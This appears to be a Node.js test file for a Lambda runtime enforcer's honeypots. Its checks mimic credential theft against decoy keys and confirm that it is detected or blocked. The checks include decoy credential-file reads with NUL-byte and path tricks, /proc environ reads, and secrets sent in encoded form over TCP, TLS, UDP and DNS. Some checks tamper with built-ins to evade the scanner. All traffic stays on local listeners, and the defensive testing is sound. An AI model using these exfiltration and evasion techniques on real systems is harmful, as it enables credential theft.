// Honeypots, on real Node 22 and 24: every trip wire raises a `honeypot`
// event (and, in BLOCK, a request signed with the decoy key never reaches
// the server), and what legitimate code does with the environment raises
// none. All traffic goes to 127.0.0.1 listeners the checks start and close;
// dns.lookup runs in a network namespace of its own, so nothing leaves.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Batch, EnforcerEvent, LAYER_DIR, preloadOnlyLayer, runChecks } from '../../support/enforced-node';
import { NODE_VERSIONS, nodeBinary } from '../../support/node-binaries';

// Lambda's runtimes that run the real runtime client: 22 and 24.
const VERSIONS = NODE_VERSIONS.filter((v) => !v.startsWith('20.'));

const KEY_ID = 'AKIAZ7QK3M5XRTW2LPNE';
const SECRET = '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';
const DECOYS = { BACKUP_AWS_ACCESS_KEY_ID: KEY_ID, BACKUP_AWS_SECRET_ACCESS_KEY: SECRET, DEPLOY_GITHUB_TOKEN: 'ghp_q8Rm2Zt6Lw1Xk9Vb4Nc7Hs3Jd5Fg0Pa2Ye8T' };
const policy = (m: 'b' | 'a') => ({ v: 1, m, h: { n: Object.keys(DECOYS) } });
const ENV = { ...DECOYS, AWS_ACCESS_KEY_ID: 'ASIAREALSESSIONKEY01', LAYER_ROOT: dirname(LAYER_DIR) };

// The checks' helpers: a local HTTP server that records what it received, and senders.
const PRELUDE = String.raw`
const http = require('node:http');
const net = require('node:net');
const tls = require('node:tls');
const dgram = require('node:dgram');
const dns = require('node:dns');
const cp = require('node:child_process');
const path = require('node:path');
const ID = process.env.BACKUP_AWS_ACCESS_KEY_ID;
const SECRET = process.env.BACKUP_AWS_SECRET_ACCESS_KEY;
const received = [];
const server = http.createServer((req, res) => { let b = ''; req.on('data', (d) => { b += d; }); req.on('end', () => { received.push(req.url + ' ' + (req.headers.authorization || '') + ' ' + b); res.end('ok'); }); });
const listening = new Promise((r) => server.listen(0, '127.0.0.1', () => r(server.address().port)));
const raw = net.createServer((s) => { let n = 0; s.on('data', (d) => { n += d.length; }); s.on('end', () => s.end(String(n))); });
const rawPort = new Promise((r) => raw.listen(0, '127.0.0.1', () => r(raw.address().port)));
const send = async (body, headers = {}, p = '/') => {
  const port = await listening;
  const before = received.length;
  const outcome = await new Promise((resolve) => {
    const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: p, headers: { 'content-length': Buffer.byteLength(body), ...headers } }, (res) => { res.resume(); res.on('end', () => resolve('ok')); });
    req.on('error', (e) => resolve(e.code));
    req.end(body);
  });
  await sleep(20);
  return { outcome, received: received.length > before };
};
const sendRaw = async (parts) => {
  const port = await rawPort;
  return new Promise((resolve) => {
    const s = net.connect(port, '127.0.0.1', async () => { for (const p of parts) { s.write(p); await sleep(10); } s.end(); });
    let out = ''; s.on('data', (d) => { out += d; }); s.on('end', () => resolve(Number(out))); s.on('error', (e) => resolve(e.code));
  });
};
const sigv4 = (id) => 'AWS4-HMAC-SHA256 Credential=' + id + '/20250101/us-east-1/sts/aws4_request, SignedHeaders=host;x-amz-date, Signature=' + 'ab'.repeat(32);
const b64At = (skew) => Buffer.from('x'.repeat(skew) + SECRET + 'yz').toString('base64');
`;

const TRIPS = PRELUDE + String.raw`
check('a decoy file is read', () => fs.readFileSync(path.join(process.env.LAYER_ROOT, '.aws/credentials'), 'utf8').length > 0);
check('a decoy file is read with fs.promises', async () => (await fs.promises.readFile(path.join(process.env.LAYER_ROOT, 'config/.env'))).length > 0);
// fs.openAsBlob reads the file in C++, below the fs binding.
check('a decoy file is read with fs.openAsBlob', async () => (await (await fs.openAsBlob(path.join(process.env.LAYER_ROOT, '.aws/credentials'))).text()).length > 0);
check('a decoy file is read with fs.openAsBlob and a file: URL', async () => (await (await fs.openAsBlob(new URL('file://' + path.join(process.env.LAYER_ROOT, 'config/.env')))).text()).length > 0);
// fs.cpSync of a directory without a filter copies it in C++ on Node >= 22 (the fs binding's cpSyncCopyDir).
check('a decoy file is copied into /tmp', () => { fs.copyFileSync(path.join(process.env.LAYER_ROOT, '.aws/credentials'), TMP + '/cred-copy'); return exists(TMP + '/cred-copy'); });
check('the directory of a decoy file is copied whole with fs.cpSync', () => { fs.cpSync(path.join(process.env.LAYER_ROOT, '.aws'), TMP + '/aws-copy', { recursive: true }); return exists(TMP + '/aws-copy/credentials'); });
check('a decoy file is read through a symlink in /tmp', () => { fs.symlinkSync(path.join(process.env.LAYER_ROOT, '.aws/credentials'), TMP + '/c'); return fs.readFileSync(TMP + '/c', 'latin1').length > 0; });
check('a decoy file is opened by a raw binding call with a NUL after its path', () => {
  const fd = process.binding('fs').open(path.join(process.env.LAYER_ROOT, '.aws/credentials') + '\0' + '/..'.repeat(30) + '/etc/hostname', fs.constants.O_RDONLY, 0);
  const n = fs.readSync(fd, Buffer.alloc(64));
  fs.closeSync(fd);
  return n > 0;
});
check('a decoy file is read through /proc/self/cwd/..', () => {
  // From /usr/lib, /proc/self/cwd/../.. is '/' to the kernel, /proc to a lexical resolve.
  const was = process.cwd();
  process.chdir('/usr/lib');
  try { return fs.readFileSync('/proc/self/cwd/../..' + path.join(process.env.LAYER_ROOT, '.aws/credentials'), 'utf8').length > 0; } finally { process.chdir(was); }
});
check('a decoy file is read with a NUL after its path', () => {
  // fs refuses such a path; the binding takes it, and open() reads the decoy's path up to the NUL.
  const fd = process.binding('fs').open(path.join(process.env.LAYER_ROOT, '.aws/credentials') + '\0', fs.constants.O_RDONLY, 0);
  const n = fs.readSync(fd, Buffer.alloc(64));
  fs.closeSync(fd);
  return n > 0;
});
check('/proc/self/environ is read', () => fs.readFileSync('/proc/self/environ').includes(ID));
check("another process's environ is read", () => fs.readFileSync('/proc/' + process.ppid + '/environ').length >= 0);
check('the secret is posted as is', () => send('secret=' + SECRET));
check('the secret is posted in base64 at offset 0', () => send(b64At(0)));
check('the secret is posted in base64 at offset 1', () => send(b64At(1)));
check('the secret is posted in base64 at offset 2', () => send(b64At(2)));
check('the secret is posted URL-encoded', () => send('s=' + encodeURIComponent(SECRET)));
check('the token is posted in hex', () => send(Buffer.from(process.env.DEPLOY_GITHUB_TOKEN).toString('hex')));
check('the secret goes out with fetch', async () => (await fetch('http://127.0.0.1:' + (await listening) + '/f', { method: 'POST', body: JSON.stringify({ k: SECRET }) })).status);
check('the secret goes out on a raw socket, split across two writes', () => sendRaw([SECRET.slice(0, 17), SECRET.slice(17)]));
check('the secret goes out over TLS', () => new Promise((resolve, reject) => {
  const srv = tls.createServer({ key: fs.readFileSync(__dirname + '/key.pem'), cert: fs.readFileSync(__dirname + '/cert.pem') }, (s) => { let n = 0; s.on('data', (d) => { n += d.length; }); s.on('end', () => { s.end(); srv.close(); resolve(n); }); });
  srv.listen(0, '127.0.0.1', () => { const s = tls.connect({ port: srv.address().port, host: '127.0.0.1', rejectUnauthorized: false }, () => s.end('k=' + SECRET)); s.on('error', reject); s.resume(); });
}));
check('the secret goes out in a UDP datagram', () => new Promise((resolve) => {
  const rx = dgram.createSocket('udp4');
  rx.on('message', (m) => { rx.close(); resolve(m.length); });
  rx.bind(0, '127.0.0.1', () => { const tx = dgram.createSocket('udp4'); tx.send('k=' + SECRET, rx.address().port, '127.0.0.1', () => tx.close()); });
}));
check('a DNS query carries the key id in hex', () => new Promise((resolve) => {
  const rx = dgram.createSocket('udp4');
  rx.on('message', () => { rx.close(); resolve('query received'); });
  rx.bind(0, '127.0.0.1', () => {
    const r = new dns.Resolver({ timeout: 200, tries: 1 });
    r.setServers(['127.0.0.1:' + rx.address().port]);
    r.resolve4(Buffer.from(ID).toString('hex') + '.example.invalid', () => {});
  });
}));
check('a child gets the key id as an argument', () => cp.execFileSync('echo', [ID], { encoding: 'utf8' }).trim() === ID);
check('a child reads /proc/1/environ', () => { try { cp.execFileSync('cat', ['/proc/1/environ']); } catch (e) { /* may be refused by the kernel */ } return true; });
check('a child gets the secret in an environment built for it', () => cp.execFileSync('true', [], { env: { PATH: process.env.PATH, S: SECRET } }).length);
check('a child gets the decoy key as its AWS credentials', () => { const r = cp.spawnSync('true', [], { env: { PATH: process.env.PATH, AWS_ACCESS_KEY_ID: ID, AWS_SECRET_ACCESS_KEY: SECRET } }); return { status: r.status, error: r.error && r.error.code }; });
check('a request signed with the decoy key id', () => send('Action=GetCallerIdentity', { authorization: sigv4(ID) }));
check('a presigned URL with the decoy key id', () => send('', {}, '/bucket/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=' + ID + '%2F20250101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=00'));
check('a built-in the trip wire uses is poisoned while a child is checked', () => {
  const arg = 'x'.repeat(40);
  cp.spawnSync('true', [arg]);
  // Object.keys: the trip wire lists the child's environment with it; Node's own code has its own copy.
  // The enforcer puts the original back while it decides (intrinsics.ts), so the trip wire runs as usual.
  const keys = Object.keys;
  Object.keys = function () { throw new Error('poisoned'); };
  try {
    return cp.spawnSync('true', [arg]).status;
  } finally {
    Object.keys = keys;
  }
});
// process.loadEnvFile reads the file in C++, below the fs binding (last: it adds the file's variables to process.env).
check('a decoy .env is loaded with process.loadEnvFile', () => { process.loadEnvFile(path.join(process.env.LAYER_ROOT, 'config/.env')); return true; });
check('the working directory\'s .env, a decoy, is loaded with process.loadEnvFile()', () => {
  const was = process.cwd();
  process.chdir(path.join(process.env.LAYER_ROOT, 'config'));
  try { process.loadEnvFile(); return true; } finally { process.chdir(was); }
});
check('close the servers', () => { server.close(); raw.close(); return true; });
`;

const LOOKALIKES = PRELUDE + String.raw`
check('a request signed with the real credentials', () => send('Action=GetCallerIdentity', { authorization: sigv4(process.env.AWS_ACCESS_KEY_ID) }));
check('a spawn that inherits the environment', () => cp.execFileSync('printenv', ['BACKUP_AWS_ACCESS_KEY_ID'], { encoding: 'utf8' }).trim() === ID);
check('a spawn with a copy of the environment', () => cp.execFileSync('printenv', ['BACKUP_AWS_ACCESS_KEY_ID'], { env: { ...process.env, PATH: '/usr/bin:/bin' }, encoding: 'utf8' }).trim() === ID);
check('logging the variable names', () => { console.log(Object.keys(process.env).filter((k) => k.startsWith('BACKUP_')).join(',')); return true; });
check('Object.keys(process.env)', () => Object.keys(process.env).length > 3);
check('posting the variable names and a config', () => send(JSON.stringify({ names: Object.keys(process.env), config: { region: 'us-east-1', table: 'orders', retries: 3 } })));
check('posting 8 MB of random bytes', () => sendRaw([require('node:crypto').randomBytes(8 * 1024 * 1024)]));
check('a directory without decoys copied whole with fs.cpSync', () => {
  fs.mkdirSync(TMP + '/src/sub', { recursive: true });
  fs.writeFileSync(TMP + '/src/sub/a.json', '{"a":1}');
  fs.cpSync(TMP + '/src', TMP + '/dst', { recursive: true });
  return fs.readFileSync(TMP + '/dst/sub/a.json', 'utf8');
});
check('an ordinary .env loaded with process.loadEnvFile', () => {
  fs.writeFileSync(TMP + '/app.env', 'APP_STAGE=test\n');
  process.loadEnvFile(TMP + '/app.env');
  return process.env.APP_STAGE;
});
check('an ordinary file read with fs.openAsBlob, by path and by URL', async () => {
  fs.writeFileSync(TMP + '/data.json', '{"b":2}');
  return [await (await fs.openAsBlob(TMP + '/data.json')).text(), await (await fs.openAsBlob(new URL('file://' + TMP + '/data.json'))).text()];
});
check('close the servers', () => { server.close(); raw.close(); return true; });
`;

const LOOKUP = String.raw`
const ID = process.env.BACKUP_AWS_ACCESS_KEY_ID;
check('dns.lookup of a name made of the key id', () => new Promise((r) => require('node:dns').lookup(Buffer.from(ID).toString('hex') + '.example.invalid', (e) => r(e && e.code))));
check('http to a name with the key id in a label', () => new Promise((r) => require('node:http').get('http://' + ID.toLowerCase() + '.example.invalid/', () => r('connected')).on('error', (e) => r(e.code))));
`;

const honeypot = (r: { events: EnforcerEvent[] }) => r.events.filter((e) => e.control === 'honeypot');

describe.each(VERSIONS)('honeypots on Node %s', (version) => {
  const node = nodeBinary(version);
  let pki: string;
  let files: Record<string, string>;
  let block: Batch;
  let alert: Batch;
  let fine: Batch;
  let lookup: Batch;
  beforeAll(() => {
    pki = mkdtempSync(join(tmpdir(), 'ne-pki-'));
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=127.0.0.1',
      '-keyout', join(pki, 'key.pem'), '-out', join(pki, 'cert.pem')], { stdio: 'ignore' });
    files = { 'key.pem': readFileSync(join(pki, 'key.pem'), 'utf8'), 'cert.pem': readFileSync(join(pki, 'cert.pem'), 'utf8') };
    block = runChecks(node, TRIPS, { policy: policy('b'), env: ENV, files });
    alert = runChecks(node, TRIPS, { policy: policy('a'), env: ENV, files });
    fine = runChecks(node, LOOKALIKES, { policy: policy('b'), env: ENV });
    // A network namespace of its own: the resolver's queries cannot leave the machine.
    lookup = runChecks('unshare', LOOKUP, { policy: policy('b'), env: ENV, nodeArgs: ['-n', node] });
  }, 120_000);
  afterAll(() => rmSync(pki, { recursive: true, force: true }));

  test.each([
    ['a decoy file is read', 'decoy file .aws/credentials read'],
    ['a decoy file is read with fs.promises', 'decoy file config/.env read'],
    ['a decoy file is read with fs.openAsBlob', 'decoy file .aws/credentials read'],
    ['a decoy file is read with fs.openAsBlob and a file: URL', 'decoy file config/.env read'],
    ['a decoy .env is loaded with process.loadEnvFile', 'decoy file config/.env read'],
    ["the working directory's .env, a decoy, is loaded with process.loadEnvFile()", 'decoy file config/.env read'],
    ['a decoy file is read through a symlink in /tmp', 'decoy file .aws/credentials read'],
    ['the directory of a decoy file is copied whole with fs.cpSync', 'decoy file .aws/credentials read'],
    // Once: the engine's own read of the copy's first bytes (protectTmp) is not the user's.
    ['a decoy file is copied into /tmp', 'decoy file .aws/credentials read'],
    ['a decoy file is opened by a raw binding call with a NUL after its path', 'decoy file .aws/credentials read'],
    ['a decoy file is read through /proc/self/cwd/..', 'decoy file .aws/credentials read'],
    ['a decoy file is read with a NUL after its path', 'decoy file .aws/credentials read'],
    ['/proc/self/environ is read', 'process environment read from /proc'],
    ["another process's environ is read", 'process environment read from /proc'],
    ['a child reads /proc/1/environ', 'process environment read from /proc by a child'],
  ])('%s: detected', (name, reason) => {
    expect(honeypot(block.result(name))).toEqual([expect.objectContaining({ action: 'detected', reason })]);
  });

  test.each([
    ['the secret is posted as is', 'plain'],
    ['the secret is posted in base64 at offset 0', 'base64'],
    ['the secret is posted in base64 at offset 1', 'base64'],
    ['the secret is posted in base64 at offset 2', 'base64'],
    ['the secret is posted URL-encoded', 'url'],
  ])('%s: detected, and let through', (name, encoding) => {
    const r = block.result(name);
    expect(r.value).toEqual({ outcome: 'ok', received: true });
    expect(honeypot(r)).toEqual([expect.objectContaining({
      action: 'detected',
      reason: 'decoy BACKUP_AWS_SECRET_ACCESS_KEY in outbound tcp bytes',
      detail: expect.objectContaining({ channel: 'tcp', encoding, remote: expect.stringMatching(/^127\.0\.0\.1:\d+$/) }),
    })]);
  });

  test.each([
    ['the token is posted in hex', 'tcp', 'DEPLOY_GITHUB_TOKEN'],
    ['the secret goes out with fetch', 'tcp', 'BACKUP_AWS_SECRET_ACCESS_KEY'],
    ['the secret goes out on a raw socket, split across two writes', 'tcp', 'BACKUP_AWS_SECRET_ACCESS_KEY'],
    ['the secret goes out over TLS', 'tls', 'BACKUP_AWS_SECRET_ACCESS_KEY'],
    ['the secret goes out in a UDP datagram', 'udp', 'BACKUP_AWS_SECRET_ACCESS_KEY'],
  ])('%s: detected on %s', (name, channel, variable) => {
    const r = block.result(name);
    expect(r.error).toBeUndefined();
    expect(honeypot(r)).toEqual([expect.objectContaining({ action: 'detected', detail: expect.objectContaining({ channel, variable }) })]);
  });

  test('the split secret still reached the server whole (detection only)', () => {
    expect(block.result('the secret goes out on a raw socket, split across two writes').value).toBe(40);
  });

  test('a DNS query for a name with the key id in hex: detected', () => {
    expect(honeypot(block.result('a DNS query carries the key id in hex'))).toEqual([expect.objectContaining({
      action: 'detected', reason: 'decoy BACKUP_AWS_ACCESS_KEY_ID in a DNS name', detail: expect.objectContaining({ channel: 'dns', api: 'queryA' }),
    })]);
  });

  test.each([
    ['dns.lookup of a name made of the key id', 'lookup'],
    ['http to a name with the key id in a label', 'lookup'],
  ])('%s: detected (getaddrinfo)', (name, api) => {
    expect(honeypot(lookup.result(name))).toEqual([expect.objectContaining({ action: 'detected', detail: expect.objectContaining({ channel: 'dns', api }) })]);
  });

  test('a child given the key id as an argument: detected, and it runs', () => {
    const r = block.result('a child gets the key id as an argument');
    expect(r.value).toBe(true);
    expect(honeypot(r)).toEqual([expect.objectContaining({ action: 'detected', reason: "decoy BACKUP_AWS_ACCESS_KEY_ID in a child's arguments" })]);
  });

  test('a child given the secret in an environment built for it: detected', () => {
    expect(honeypot(block.result('a child gets the secret in an environment built for it'))).toEqual([
      expect.objectContaining({ action: 'detected', reason: "decoy BACKUP_AWS_SECRET_ACCESS_KEY in a child's environment as S" }),
    ]);
  });

  test('a built-in the trip wire uses, poisoned, is reported as tamper and does not break the check; the child runs', () => {
    const r = block.result('a built-in the trip wire uses is poisoned while a child is checked');
    expect(r.value).toBe(0);
    expect(r.events).toEqual([expect.objectContaining({ control: 'tamper', action: 'detected', reason: expect.stringMatching(/^built-in Object\.keys was replaced/) })]);
  });

  test('a child given the decoy key as its credentials: refused in BLOCK, detected in ALERT', () => {
    const b = block.result('a child gets the decoy key as its AWS credentials');
    expect(b.value).toEqual({ status: null, error: 'EACCES' });
    expect(honeypot(b)).toContainEqual(expect.objectContaining({ action: 'blocked', reason: 'decoy access key BACKUP_AWS_ACCESS_KEY_ID handed to a child as AWS_ACCESS_KEY_ID' }));
    const a = alert.result('a child gets the decoy key as its AWS credentials');
    expect(a.value).toEqual({ status: 0 });
    expect(honeypot(a)).toContainEqual(expect.objectContaining({ action: 'detected', reason: 'decoy access key BACKUP_AWS_ACCESS_KEY_ID handed to a child as AWS_ACCESS_KEY_ID' }));
  });

  test.each([
    ['a request signed with the decoy key id', 'BLOCK', 'the server never receives it'],
    ['a presigned URL with the decoy key id', 'BLOCK', 'the server never receives it'],
    ['a request signed with the decoy key id', 'ALERT', 'it goes through and is reported'],
    ['a presigned URL with the decoy key id', 'ALERT', 'it goes through and is reported'],
  ])('%s: in %s %s', (name, mode) => {
    const r = (mode === 'BLOCK' ? block : alert).result(name);
    expect(r.value).toEqual(mode === 'BLOCK' ? { outcome: 'EACCES', received: false } : { outcome: 'ok', received: true });
    expect(honeypot(r)).toEqual([expect.objectContaining({
      action: mode === 'BLOCK' ? 'blocked' : 'detected',
      reason: 'request signed with the decoy access key BACKUP_AWS_ACCESS_KEY_ID',
    })]);
  });

  test.each([
    ['a request signed with the real credentials', { outcome: 'ok', received: true }],
    ['a spawn that inherits the environment', true],
    ['a spawn with a copy of the environment', true],
    ['logging the variable names', true],
    ['Object.keys(process.env)', true],
    ['posting the variable names and a config', { outcome: 'ok', received: true }],
    ['posting 8 MB of random bytes', 8 * 1024 * 1024],
    ['a directory without decoys copied whole with fs.cpSync', '{"a":1}'],
    ['an ordinary file read with fs.openAsBlob, by path and by URL', ['{"b":2}', '{"b":2}']],
    ['an ordinary .env loaded with process.loadEnvFile', 'test'],
  ])('look-alike: %s works and raises nothing', (name, expected) => {
    expect(fine.result(name)).toEqual({ value: expected, events: [] });
  });

  test('every batch ran to its end, with no event at init', () => {
    for (const b of [block, alert, fine, lookup]) {
      expect(b.done).toBe(true);
      expect(b.initEvents).toEqual([]);
    }
  });
});

// The scan's probe loop runs in WebAssembly where it can (probe.wat): with
// the constructors and getters read at start, so user code that replaced
// them before the first write cannot blind it; under --jitless there is no
// WebAssembly and the same loop runs in JavaScript. Globals the tables could
// be built with (unescape, Uint32Array) are replaced too.
describe('the outbound scan, in WebAssembly or not', () => {
  const BULK = PRELUDE + String.raw`
check('globals the scan could use are replaced before the first write', () => {
  // The tables are built at the first write: with these, base64 and hex forms would be of nothing, and no gram would lead to a pattern.
  globalThis.unescape = () => '';
  const Words = Uint32Array;
  globalThis.Uint32Array = function (n) { return new Proxy(new Words(n), { set: () => true }); };
  return true;
});
check('the WebAssembly getters are replaced before the first write', () => {
  if (typeof WebAssembly === 'undefined') return 'no WebAssembly';
  const memory = new WebAssembly.Memory({ initial: 2 });
  Object.defineProperty(WebAssembly.Instance.prototype, 'exports', { configurable: true, get() { return { probe: () => -1, memory }; } });
  Object.defineProperty(WebAssembly.Memory.prototype, 'buffer', { configurable: true, get() { return new ArrayBuffer(2 * 65536); } });
  return typeof WebAssembly;
});
check('the key id goes out in the middle of a 1 MB write', () => sendRaw([Buffer.concat([Buffer.alloc(600 * 1024, 'a'), Buffer.from(ID), Buffer.alloc(424 * 1024, 'b')])]));
check('the secret goes out in base64 in the 900th KB of a 1 MB upload', () => send(Buffer.concat([Buffer.alloc(900 * 1024, 'c'), Buffer.from(b64At(1)), Buffer.alloc(100 * 1024, 'd')])));
check('close the servers', () => { server.close(); raw.close(); return true; });
`;
  test.each(VERSIONS.flatMap((v) => [[v, 'with its built-ins replaced', []], [v, 'under --jitless', ['--jitless']]] as [string, string, string[]][]))(
    'on Node %s, %s: decoys deep in bulk writes are found',
    (version, _, nodeArgs) => {
      const b = runChecks(nodeBinary(version), BULK, { policy: policy('a'), env: ENV, nodeArgs });
      expect(b.done).toBe(true);
      expect(b.result('globals the scan could use are replaced before the first write').value).toBe(true);
      expect(b.result('the WebAssembly getters are replaced before the first write').value).toBe(nodeArgs.length > 0 ? 'no WebAssembly' : 'object');
      expect(b.result('the key id goes out in the middle of a 1 MB write').value).toBe(1024 * 1024 + 20);
      expect(honeypot(b.result('the key id goes out in the middle of a 1 MB write'))).toEqual([expect.objectContaining({
        action: 'detected', reason: 'decoy BACKUP_AWS_ACCESS_KEY_ID in outbound tcp bytes', detail: expect.objectContaining({ encoding: 'plain' }),
      })]);
      expect(honeypot(b.result('the secret goes out in base64 in the 900th KB of a 1 MB upload'))).toEqual([expect.objectContaining({
        action: 'detected', reason: 'decoy BACKUP_AWS_SECRET_ACCESS_KEY in outbound tcp bytes', detail: expect.objectContaining({ encoding: 'base64' }),
      })]);
    },
  );
});

describe('without decoys', () => {
  const CHECKS = String.raw`
check('TCP sockets are not hooked', () => Object.getOwnPropertyNames(process.binding('tcp_wrap').TCP.prototype).includes('writeBuffer'));
check('a decoy file read raises nothing', () => fs.readFileSync(require('node:path').join(process.env.LAYER_ROOT, '.aws/credentials'), 'utf8').length > 0);
`;
  test.each(VERSIONS)('nothing of the honeypots runs on Node %s', (version) => {
    const b = runChecks(nodeBinary(version), CHECKS, { policy: { v: 1 }, env: ENV });
    expect(b.result('TCP sockets are not hooked')).toEqual({ value: false, events: [] });
    expect(b.result('a decoy file read raises nothing')).toEqual({ value: true, events: [] });
  });
});

describe('with decoys, before first use', () => {
  // A layer without engine.js: what only reads, computes and writes to stdout
  // must never need it (the honeypots cost nothing until used); the first
  // outbound byte does, and without it the write still goes through.
  const lazyPreload = preloadOnlyLayer();
  const CHECKS = PRELUDE + String.raw`
check('the decoy is taken out of process.env', () => { delete process.env.BACKUP_AWS_SECRET_ACCESS_KEY; return process.env.BACKUP_AWS_SECRET_ACCESS_KEY; });
check('ordinary work', () => JSON.stringify(Object.keys(process.env).sort()).length > 0 && fs.readFileSync(__filename, 'utf8').length > 0);
check('the value read at start goes out', () => send('secret=' + SECRET));
`;
  test.each(VERSIONS)('on Node %s the engine loads on the first outbound byte, and the values are the ones from start', (version) => {
    const b = runChecks(nodeBinary(version), CHECKS, { policy: policy('b'), env: { ...ENV, NODE_OPTIONS: `--require ${lazyPreload()}` } });
    expect(b.initEvents).toEqual([]);
    expect(b.result('the decoy is taken out of process.env')).toEqual({ value: undefined, events: [] });
    expect(b.result('ordinary work')).toEqual({ value: true, events: [] });
    const out = b.result('the value read at start goes out');
    expect(out.value).toEqual({ outcome: 'ok', received: true });
    expect(out.events).toEqual([expect.objectContaining({ control: 'tamper', action: 'detected', reason: expect.stringMatching(/^internal: .*engine\.js/) })]);
    expect(b.done).toBe(true);

    const full = runChecks(nodeBinary(version), CHECKS, { policy: policy('b'), env: ENV });
    expect(full.result('the value read at start goes out').events).toEqual([
      expect.objectContaining({ control: 'honeypot', action: 'detected', detail: expect.objectContaining({ variable: 'BACKUP_AWS_SECRET_ACCESS_KEY' }) }),
    ]);
  });
});

describe('with decoys, a layer without late.js', () => {
  // The preload's second half is missing: what only reads and computes never
  // needs it; the first outbound byte does, goes through (the honeypots only
  // watch) and the fault is reported once; a spawn fails closed.
  const noLate = preloadOnlyLayer(['window.js']);
  const CHECKS = PRELUDE + String.raw`
check('ordinary work', () => JSON.stringify(Object.keys(process.env).sort()).length > 0 && fs.readFileSync(__filename, 'utf8').length > 0);
check('the value goes out', () => send('secret=' + SECRET));
check('and again', () => send('secret=' + SECRET));
check('a spawn', () => { const r = require('node:child_process').spawnSync('/bin/true'); return r.error && r.error.code; });
`;
  test.each(VERSIONS)('on Node %s the writes go through with one fault reported, and a spawn is refused', (version) => {
    const b = runChecks(nodeBinary(version), CHECKS, { policy: policy('b'), env: { ...ENV, NODE_OPTIONS: `--require ${noLate()}` } });
    expect(b.initEvents).toEqual([]);
    expect(b.result('ordinary work')).toEqual({ value: true, events: [] });
    const out = b.result('the value goes out');
    expect(out.value).toEqual({ outcome: 'ok', received: true });
    expect(out.events).toEqual([expect.objectContaining({ control: 'tamper', action: 'detected', reason: expect.stringMatching(/^internal: .*late\.js/) })]);
    expect(b.result('and again')).toEqual({ value: { outcome: 'ok', received: true }, events: [] });
    const spawn = b.result('a spawn');
    expect(spawn.value).toBe('EACCES');
    expect(spawn.events).toEqual([expect.objectContaining({ control: 'tamper', action: 'blocked', reason: expect.stringMatching(/^internal: .*late\.js/) })]);
    expect(b.done).toBe(true);
  });
});

describe('a layer that lives in a writable place', () => {
  // The bench runs cdk.out's layer asset from /tmp. With decoys, the preload
  // watches reads in writable places: its own reads of window.js and
  // engine.js must not go to the hooks (they once asked for the window while
  // loading it, until the stack overflowed and every spawn was refused).
  let dir = '';
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'ne-layer-'));
    execFileSync('cp', ['-r', LAYER_DIR, join(dir, 'nano-enforcer')]);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const CHECKS = String.raw`
check('an allowed spawn', () => require('node:child_process').spawnSync('/bin/sh', ['-c', 'exit 4']).status);
`;
  test.each(VERSIONS)('on Node %s: the spawn runs and nothing is reported', (version) => {
    const b = runChecks(nodeBinary(version), CHECKS, {
      policy: policy('b'), env: { ...ENV, NODE_OPTIONS: `--require ${join(dir, 'nano-enforcer', 'preload.js')}` },
    });
    expect(b.initEvents).toEqual([]);
    expect(b.result('an allowed spawn')).toEqual({ value: 4, events: [] });
  });
});
